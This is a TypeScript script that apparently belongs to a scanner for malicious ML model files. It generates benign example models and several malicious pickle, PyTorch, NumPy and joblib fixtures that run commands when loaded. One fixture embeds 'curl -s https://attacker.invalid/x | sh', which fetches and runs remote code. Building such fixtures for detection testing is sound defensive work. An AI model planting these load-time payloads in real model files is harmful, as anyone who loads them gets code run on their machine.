/**
 * Writes examples/: small benign and malicious models, byte-exact and reproducible, so the README's
 * first command has something real to scan. Run: npm run examples (the output is committed).
 */
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { deflateSync } from "node:zlib";
import { buildNpy } from "../test/writers/npy.js";
import { pickle } from "../test/writers/pickle.js";
import { legacyTorch, stateDictPickle, type TensorSpec, torchZip } from "../test/writers/torch.js";

// The output folder: examples/ unless another is given (the test regenerates into a temporary one).
const root = process.argv[2] ?? join(import.meta.dirname, "..", "examples");
rmSync(join(root, "benign"), { recursive: true, force: true });
rmSync(join(root, "malicious"), { recursive: true, force: true });
mkdirSync(join(root, "benign"), { recursive: true });
mkdirSync(join(root, "malicious"), { recursive: true });
const put = (dir: string, name: string, bytes: Uint8Array | string) =>
  writeFileSync(join(root, dir, name), bytes);

const tensors: TensorSpec[] = [
  { name: "linear.weight", key: "0", shape: [2, 3] },
  { name: "linear.bias", key: "1", shape: [2] },
];
const floats = (n: number) =>
  new Uint8Array(new Float32Array(Array.from({ length: n }, (_, i) => i / 10)).buffer);
const storages = [
  { key: "0", bytes: floats(6) },
  { key: "1", bytes: floats(2) },
];

// Benign: what torch.save, numpy.save and pickle.dump write for ordinary models.
put("benign", "state_dict.pt", torchZip(stateDictPickle(tensors), storages));
put("benign", "legacy_state_dict.pt", legacyTorch(tensors));
put("benign", "weights.npy", buildNpy({ descr: "<f4", shape: [2, 3], data: floats(6) }));
put(
  "benign",
  "training_config.pkl",
  pickle()
    .proto(4)
    .op("EMPTY_DICT")
    .mark()
    .shortBinunicode("epochs")
    .binint1(10)
    .shortBinunicode("lr")
    .binfloat(0.001)
    .shortBinunicode("layers")
    .mark()
    .binint1(64)
    .binint1(32)
    .op("LIST")
    .op("SETITEMS")
    .stop()
    .bytes(),
);

// Malicious: each runs a command the moment it is loaded.
put("malicious", "os_system_protocol0.pkl", "cos\nsystem\n(S'echo pwned'\ntR.");
put(
  "malicious",
  "eval_stack_global.pkl",
  pickle()
    .proto(4)
    .framed((w) =>
      w
        .stackGlobal("builtins", "eval")
        .shortBinunicode("__import__('os').system('echo pwned')")
        .op("TUPLE1")
        .op("REDUCE")
        .stop(),
    )
    .bytes(),
);
put(
  "malicious",
  "checkpoint_with_payload.pt",
  torchZip(
    stateDictPickle(tensors, (w) =>
      w
        .binunicode("_extra")
        .reduceGlobal("posix", "system", (a) => a.binunicode("curl -s https://attacker.invalid/x | sh")),
    ),
    storages,
  ),
);
const code = Buffer.from(
  "YwAAAAAAAAAAAAAAAAAAAAAAAAAAcwQAAABkAFMAKQFOqQByAgAAAHICAAAAcgIAAAD6AHIDAAAAcgMAAAA=",
  "base64",
);
put(
  "malicious",
  "marshal_function.pkl",
  pickle()
    .proto(2)
    .global("types", "FunctionType")
    .mark()
    .global("marshal", "loads")
    .mark()
    .global("base64", "b64decode")
    .mark()
    .binunicode(code.toString("base64"))
    .op("TUPLE")
    .op("REDUCE")
    .op("TUPLE")
    .op("REDUCE")
    .op("EMPTY_DICT")
    .op("TUPLE")
    .op("REDUCE")
    .op("EMPTY_TUPLE")
    .op("REDUCE")
    .stop()
    .bytes(),
);
const popen = pickle()
  .proto(3)
  .reduceGlobal("subprocess", "Popen", (w) =>
    w.mark().binunicode("sh").binunicode("-c").binunicode("id").op("LIST"),
  )
  .stop()
  .bytes();
put("malicious", "object_array.npy", buildNpy({ descr: "|O", shape: [1], data: popen }));
put("malicious", "compressed_model.joblib", deflateSync(popen));
put(
  "malicious",
  "legacy_payload_in_4th_pickle.pt",
  legacyTorch(
    tensors,
    stateDictPickle(tensors, (w) =>
      w.binunicode("_extra").reduceGlobal("os", "system", (a) => a.binunicode("echo pwned")),
    ),
  ),
);
console.log(`wrote examples to ${root}`);
